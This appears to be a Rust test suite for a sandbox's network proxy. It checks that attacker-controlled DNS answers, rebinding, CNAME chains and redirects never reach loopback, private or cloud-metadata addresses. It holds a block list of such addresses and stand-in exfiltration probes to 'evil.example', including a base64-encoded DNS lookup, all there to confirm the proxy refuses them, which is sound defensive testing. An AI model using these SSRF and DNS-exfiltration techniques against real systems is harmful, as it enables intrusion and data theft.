//! Names that lead elsewhere than they should: what a name server of the attacker's says.

mod network;

use std::time::Duration;

use network::{ASK, SERVE, counted, logged, parts, told, words};
use serde_json::{Value, json};
use testkit::{Call, Mounts, Net, TestEnv, each};

const DNS: &str = include_str!("network/dns.py");
const RAW: &str = include_str!("network/raw.py");

/// Of each class that no grant opens, however it is written.
const NEVER: [&str; 38] = [
    "127.0.0.1",
    "127.8.9.10",
    "::1",
    "0.0.0.0",
    "::",
    "0.1.2.3",
    // The machine's own.
    "11.0.0.1",
    "12.0.0.1",
    "10.77.0.1",
    "fd77::1",
    "169.254.1.1",
    "fe80::1",
    "100.64.0.1",
    "192.0.2.1",
    "198.18.0.1",
    "240.0.0.1",
    "255.255.255.255",
    "2001:db8::1",
    "fec0::1",
    "224.0.0.1",
    "ff02::1",
    // IPv4 in IPv6: mapped, compatible, translated, NAT64, 6to4, Teredo.
    "::ffff:127.0.0.1",
    "::ffff:11.0.0.1",
    "::127.0.0.1",
    "::ffff:0:127.0.0.1",
    "64:ff9b::7f00:1",
    "64:ff9b::b00:4",
    "64:ff9b:1::a4d:3",
    "2002:7f00:1::",
    "2002:a4d:3::",
    "2001::80ff:fffe",
    "2001::f5b2:fffc",
    METADATA[0],
    METADATA[1],
    METADATA[2],
    METADATA[3],
    METADATA[4],
    METADATA[5],
];

const METADATA: [&str; 6] = [
    "169.254.169.254",
    "100.100.100.200",
    "168.63.129.16",
    "fd00:ec2::254",
    "::ffff:169.254.169.254",
    "64:ff9b::a9fe:a9fe",
];

/// Of the machine's own networks, which `--lan-host` alone opens.
const PRIVATE: [&str; 5] =
    ["10.77.0.3", "192.168.1.1", "172.16.0.1", "fd77::2", "::ffff:10.77.0.3"];

const PUBLIC: &str = "11.0.0.4";
/// Where the other machine, and this one, tell what they counted.
const THERE: &str = "11.0.0.2:9";
const HERE: &str = "127.0.0.1:9";
/// Where the name server tells what it was asked.
const NAMES: &str = "127.0.0.1:10";

/// The other machine answers for every address in the world but this one's.
const WORLD: &str = "
    for address in 10.77.0.1 11.0.0.1 12.0.0.1 fd77::1 fe80::/64; do
        ip route add $address dev cable table local
    done &&
    ip route add local default dev lo table local && ip -6 route add local default dev lo table local &&
    ip address add fd77::2/64 dev cable nodad && echo serves";
/// To which this one's router leads.
const ROUTER: &str = "
    ip address add fd77::1/64 dev cable nodad &&
    ip route add default via 10.77.0.2 && ip -6 route add default via fd77::2 && echo serves";

/// The world, every connection to which is counted, and a name server.
fn net(zone: &Value) -> Option<Net> {
    let mut net = Net::new()?;
    net.serve(["sh", "-c", WORLD]).serve_here(["sh", "-c", ROUTER]);
    let all = ["0.0.0.0:80", "0.0.0.0:443", "[::]:80", "[::]:443"];
    let counter = |control| [&SERVE[..], &["counter", control], &all].concat();
    net.serve(counter(THERE)).serve_here(counter(HERE));
    let zone = zone.to_string();
    net.serve_here(["/usr/bin/python3", "-c", DNS, "127.0.0.1", NAMES, &zone]);
    Some(net)
}

/// `lnk sandbox run` where the name server is the machine's.
fn run(env: &TestEnv, net: &Net, flags: &str, program: &[&str]) -> Call {
    let server = env.write(env.home().join("resolv.conf"), RESOLV_CONF);
    let order = env.write(env.home().join("nsswitch.conf"), "hosts: files dns\n");
    network::run_words(env, net, &[], flags, program)
        .replaced("/etc/resolv.conf", server)
        .replaced("/etc/nsswitch.conf", order)
        .deadline(Duration::from_secs(120))
}

const RESOLV_CONF: &str = "nameserver 127.0.0.1\nsearch evil.example\n";

/// Asks for each host by CONNECT, then by plain HTTP: the statuses.
fn ask(env: &TestEnv, net: &Net, flags: &str, hosts: &[String]) -> Vec<(String, [u16; 2])> {
    env.write("ask.py", ASK);
    let ask = |(methods, part): (String, Vec<String>)| {
        let program = format!("exec python3 ask.py '{methods}' {}", words(&part));
        run(env, net, flags, &["bash", "-c", &program]).run().ok().stdout
    };
    let answers: String = parts(hosts, is_metadata).into_iter().map(ask).collect();
    let statuses: Vec<u16> = answers
        .lines()
        .map(|line| line.rsplit(' ').next().and_then(|it| it.parse().ok()).expect("a status"))
        .collect();
    assert_eq!(statuses.len(), 2 * hosts.len(), "{answers}");
    hosts.iter().cloned().zip(statuses.as_chunks().0.iter().copied()).collect()
}

/// Whether a call to it pauses the wire.
fn is_metadata(host: &str) -> bool {
    host.contains("metadata") || host.contains("instance-data") || METADATA.contains(&host)
}

#[track_caller]
fn all_are(statuses: [u16; 2], answers: &[(String, [u16; 2])]) {
    for (host, answer) in answers {
        assert_eq!(*answer, statuses, "{host}");
    }
}

/// Connections that the world and this machine counted since the last time.
fn connections(env: &TestEnv, net: &Net) -> [u64; 2] {
    [counted(env, net, THERE)[0], counted(env, net, HERE)[0]]
}

/// What the name server was asked since the last time: names and types.
fn looked_up(env: &TestEnv, net: &Net) -> Vec<(String, String)> {
    serde_json::from_str(&told(env, net, NAMES)).expect("JSON")
}

/// A name of a kind for each address.
fn named(kind: &str, addresses: &[&str]) -> Vec<String> {
    let labels = addresses.iter().enumerate().map(|(n, address)| label(n, address));
    labels.map(|label| format!("{kind}{label}.x.example")).collect()
}

/// Which address a name is for.
fn label(n: usize, address: &str) -> String {
    format!("{n}{}", if METADATA.contains(&address) { "-metadata" } else { "" })
}

/// Names for each address: it alone; led to; beside a public one; and a public one, the
/// first time, and it from then on.
fn zone_of(addresses: &[&str]) -> Value {
    let mut zone = json!({"origin.x.example": [[PUBLIC]]});
    for (n, address) in addresses.iter().enumerate() {
        let n = label(n, address);
        zone[format!("name{n}.x.example")] = json!([[address]]);
        zone[format!("alias{n}.x.example")] = json!([[format!("name{n}.x.example")]]);
        zone[format!("both{n}.x.example")] = json!([[PUBLIC, address]]);
        zone[format!("rebinding{n}.x.example")] = json!([[PUBLIC], [address]]);
        zone[format!("name{n}.local")] = json!([[address]]);
        zone[format!("rebinding{n}.local")] = json!([["10.77.0.3"], [address]]);
    }
    zone
}

/// No name leads to these addresses, whatever the name server says, where these flags
/// open every public one.
fn never_reached(env: &TestEnv, net: &Net, flags: &str, addresses: &[&str]) {
    let count = addresses.len() as u64;
    looked_up(env, net);
    let hosts = [named("name", addresses), named("alias", addresses)].concat();
    all_are([403, 403], &ask(env, net, flags, &hosts));
    assert_eq!(connections(env, net), [0, 0]);
    let (pauses, log): (Vec<_>, Vec<_>) =
        logged(env).into_iter().partition(|line| line.starts_with("pause "));
    assert_eq!(log.len(), 2 * hosts.len());
    assert_eq!(pauses.len(), 2 * hosts.iter().filter(|host| is_metadata(host)).count());
    for (host, address) in hosts.iter().zip(addresses.iter().cycle()) {
        for to in [format!("connect {host}:443"), format!("http {host}:80")] {
            let said = log.iter().find(|line| line.starts_with(&format!("{to} refused: ")));
            let said = said.unwrap_or_else(|| panic!("{to}: {log:#?}"));
            let metadata = said.contains(", a cloud's metadata service: no grant");
            assert_eq!(metadata, METADATA.contains(address), "{address}: {said}");
        }
    }

    // Of two addresses the open one is dialled.
    all_are([200, 200], &ask(env, net, flags, &named("both", addresses)));
    assert_eq!(connections(env, net), [2 * count, 0]);

    // What a name was is forgotten at once, and what it was judged by is dialled.
    let hosts = named("rebinding", addresses);
    looked_up(env, net);
    all_are([200, 403], &ask(env, net, flags, &hosts));
    all_are([403, 403], &ask(env, net, flags, &hosts));
    assert_eq!(connections(env, net), [count, 0]);
    let asked = looked_up(env, net);
    for host in &hosts {
        let times = asked.iter().filter(|(name, kind)| name == host && kind == "A").count();
        assert_eq!(times, 4, "{host}");
    }

    // Nor does curl get there that follows where an open host leads, be it to itself.
    let hosts = named("rebinding", addresses).into_iter().map(|it| (it.clone(), it));
    let leads = |to: String| ("origin.x.example".to_owned(), to);
    let named = [named("name", addresses), named("alias", addresses)].concat();
    let literal = addresses.iter().map(|it| match it.contains(':') {
        true => format!("[{it}]"),
        false => (*it).to_owned(),
    });
    let redirects: Vec<_> = hosts.chain(named.into_iter().chain(literal).map(leads)).collect();
    let answers = follow(env, net, flags, &redirects);
    for (line, (_, to)) in answers.lines().zip(&redirects) {
        // curl 7.88 says another Host than it asks for, where that's an IPv6 address.
        assert!(line == "403 1" || line == "400 1" && to.starts_with('['), "{to}: {line}");
    }
    assert_eq!(answers.lines().count(), redirects.len());
    assert_eq!(connections(env, net), [redirects.len() as u64, 0]);
}

/// curl along each redirect, from a host to another: the last status, and how many
/// redirects it followed.
fn follow(env: &TestEnv, net: &Net, flags: &str, redirects: &[(String, String)]) -> String {
    let follow = |redirects: &[(String, String)]| {
        let urls: Vec<_> =
            redirects.iter().map(|(from, to)| format!("http://{from}/to?http://{to}/")).collect();
        let script = format!(
            "for url in {}; do curl -gsL --noproxy '' -o /dev/null -w '%{{http_code}} \
             %{{num_redirects}}\\n' \"$url\"; done",
            words(&urls)
        );
        run(env, net, flags, &["bash", "-c", &script]).run().stdout
    };
    // A run that asked for a metadata service, or for many others, is paused.
    let is_alone = |(_, to): &(String, String)| is_metadata(to.trim_matches(['[', ']']));
    let parts = redirects.chunk_by(|a, b| !is_alone(a) && !is_alone(b));
    parts.flat_map(|part| part.chunks(15)).map(follow).collect()
}

/// Connects to each address.
const REACH: &str = "
import socket, sys
def reached(address):
    try:
        socket.create_connection((address, 80), timeout=10).close()
        return True
    except OSError:
        return False
print(*[address for address in sys.argv[1:] if not reached(address)], \"aren't reached\")
";

#[test]
fn no_name_leads_to_what_no_grant_opens() {
    let Some(net) = net(&zone_of(&NEVER)) else { return };
    each!(|env| {
        if env.mounts == Mounts::Bwrap {
            return;
        }
        let flags = "--internet-host * --lan-host *";
        never_reached(env, &net, flags, &NEVER);
        // They would have been: the machine itself reaches all that TCP knows.
        let reach = [&["-c", REACH], &NEVER[..]].concat();
        let reached = env.program("python3", reach).within(&net).run().ok();
        reached.prints("fe80::1 255.255.255.255 224.0.0.1 ff02::1 aren't reached\n");
        assert_eq!(connections(env, &net).iter().sum::<u64>(), NEVER.len() as u64 - 4);

        // Nor does a name of the own network.
        let local = |kind: &str| -> Vec<String> {
            NEVER
                .iter()
                .enumerate()
                .map(|(n, it)| format!("{kind}{}.local", label(n, it)))
                .collect()
        };
        all_are([403, 403], &ask(env, &net, flags, &local("name")));
        assert_eq!(connections(env, &net), [0, 0]);
        all_are([200, 403], &ask(env, &net, flags, &local("rebinding")));
        assert_eq!(connections(env, &net), [NEVER.len() as u64, 0]);
    });
}

#[test]
fn no_public_name_leads_into_the_own_network() {
    let Some(net) = net(&zone_of(&PRIVATE)) else { return };
    each!(|env| {
        if env.mounts == Mounts::Joiner {
            never_reached(env, &net, "--internet-host *", &PRIVATE);
            // But for the one that hides in IPv6, it may be opened.
            let plain = named("name", &PRIVATE[..4]);
            let open = ask(env, &net, "--internet-host * --lan-host *", &plain);
            all_are([200, 200], &open);
            assert_eq!(connections(env, &net), [8, 0]);
        }
    });
}

#[test]
fn each_request_on_one_connection_is_looked_up_anew() {
    let zone = json!({"turns.x.example": [[PUBLIC], ["127.0.0.1"], [PUBLIC]]});
    let Some(net) = net(&zone) else { return };
    each!(|env| {
        if env.mounts == Mounts::Bwrap {
            return;
        }
        looked_up(env, &net);
        env.write("raw.py", RAW);
        let get = "GET http://turns.x.example/ HTTP/1.1\r\nHost: turns.x.example\r\n\r\n";
        let program =
            ["/usr/bin/python3", "raw.py", "127.0.0.1:40781", get, "ANSWER", get, "ANSWER"];
        let run = run(env, &net, "--internet-host *", &program).run().ok();
        let statuses: Vec<_> = run.stdout.lines().filter(|it| it.contains("HTTP/1.1")).collect();
        assert_eq!(statuses.len(), 2, "{run}");
        assert!(statuses[0].ends_with("HTTP/1.1 200 OK"), "{run}");
        let why = "HTTP/1.1 403 turns.x.example resolves to an address of this machine: ";
        assert!(statuses[1].contains(why), "{run}");
        assert_eq!(connections(env, &net), [1, 0]);
    });
}

#[test]
fn a_name_that_leads_to_another_is_what_it_was_asked_as() {
    let zone = json!({
        "listed.x.example": [["unlisted.y.example"]],
        "unlisted.y.example": [[PUBLIC]],
        "to-localhost.x.example": [["localhost"]],
        "localhost": [["127.0.0.1", "::1"]],
        "to-metadata.x.example": [["metadata.google.internal"]],
        "metadata.google.internal": [["169.254.169.254"]],
        "to-nas.x.example": [["nas.local"]],
        "nas.local": [["10.77.0.3"]],
        "circle.x.example": [["nowhere.x.example"]],
    });
    let Some(net) = net(&zone) else { return };
    let hosts = |names: &[&str]| names.iter().map(|it| format!("{it}.example")).collect::<Vec<_>>();
    each!(|env| {
        if env.mounts == Mounts::Bwrap {
            return;
        }
        let flags = "--internet-host *.x.example --lan-host nas.local";
        all_are([200, 200], &ask(env, &net, flags, &hosts(&["listed.x"])));
        assert_eq!(connections(env, &net), [2, 0]);
        let closed = ["unlisted.y", "to-localhost.x", "to-metadata.x", "to-nas.x"];
        all_are([403, 403], &ask(env, &net, flags, &hosts(&closed)));
        all_are([502, 502], &ask(env, &net, flags, &hosts(&["circle.x"])));
        assert_eq!(connections(env, &net), [0, 0]);
    });
}

#[test]
fn what_isnt_open_is_never_looked_up() {
    let zone = json!({"listed.x.example": [[PUBLIC]], "none.x.example.evil.example": [[PUBLIC]]});
    let Some(net) = net(&zone) else { return };
    let secrets = [
        "c2VjcmV0.evil.example",
        "evil.example",
        "listed.x.example.evil.example",
        "evil-listed.x.example",
        "x.example",
        "sub.listed.x.example",
    ];
    let nobodys = [
        "localhost",
        "a.localhost",
        "nas",
        "nas.local",
        "x.internal",
        "x.home.arpa",
        "metadata.google.internal",
        "metadata.goog",
        "instance-data.ec2.internal",
        "metadata.tencentyun.com",
        "metadata",
    ];
    let strings = |names: &[&str]| names.iter().map(|it| (*it).to_owned()).collect::<Vec<_>>();
    // The program's own lookups lead nowhere at all.
    let by_itself = "
import socket
for family in socket.AF_INET, socket.AF_INET6, 0:
    try:
        socket.getaddrinfo('c2VjcmV0.evil.example', 443, family)
        raise SystemExit('looked up')
    except socket.gaierror:
        pass
question = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1'
for server in '127.0.0.1', '127.0.0.53', '10.77.0.1', '10.77.0.2', '11.0.0.1':
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, (server, 53))
    except OSError:
        pass
";
    each!(|env| {
        if env.mounts == Mounts::Bwrap {
            return;
        }
        looked_up(env, &net);
        let listed = "--internet-host listed.x.example --lan-host 10.77.0.0/24";
        let refused = [strings(&secrets), strings(&nobodys)].concat();
        all_are([403, 403], &ask(env, &net, listed, &refused));
        all_are([403, 403], &ask(env, &net, "--internet-host *", &strings(&nobodys)));
        for spelling in ["%65vil.example", "evil.example%00.listed.x.example", "[evil.example]"] {
            all_are([400, 400], &ask(env, &net, "--internet-host *", &strings(&[spelling])));
        }
        for flags in ["", listed, "--internet-host *", "--port 5432"] {
            run(env, &net, flags, &["/usr/bin/python3", "-c", by_itself]).run().ok();
        }
        let direct = ["curl", "-sS", "--noproxy", "*", "http://c2VjcmV0.evil.example/"];
        run(env, &net, listed, &direct).run().fails_with(6);
        // Not a listed one at a closed port either.
        let connect = "CONNECT listed.x.example:25 HTTP/1.1\r\n\r\n";
        env.write("raw.py", RAW);
        let pivot = ["/usr/bin/python3", "raw.py", "127.0.0.1:40781", connect];
        run(env, &net, listed, &pivot)
            .run()
            .ok()
            .stdout_has("HTTP/1.1 403 listed.x.example:25 isn't open: ");
        assert_eq!(looked_up(env, &net), []);
        assert_eq!(connections(env, &net), [0, 0]);

        // An open one is, once a call, and never in the machine's own domain.
        all_are([200, 200], &ask(env, &net, listed, &strings(&["listed.x.example"])));
        assert_eq!(connections(env, &net), [2, 0]);
        let all = "--internet-host *";
        all_are([502, 502], &ask(env, &net, all, &strings(&["none.x.example"])));
        let names: Vec<_> = looked_up(env, &net)
            .into_iter()
            .filter_map(|(name, kind)| (kind == "A").then_some(name))
            .collect();
        let (listed, none) = ("listed.x.example", "none.x.example");
        assert_eq!(&names[..2], [listed, listed]);
        assert!(names[2..].iter().all(|it| it == none), "{names:?}");
    });
}
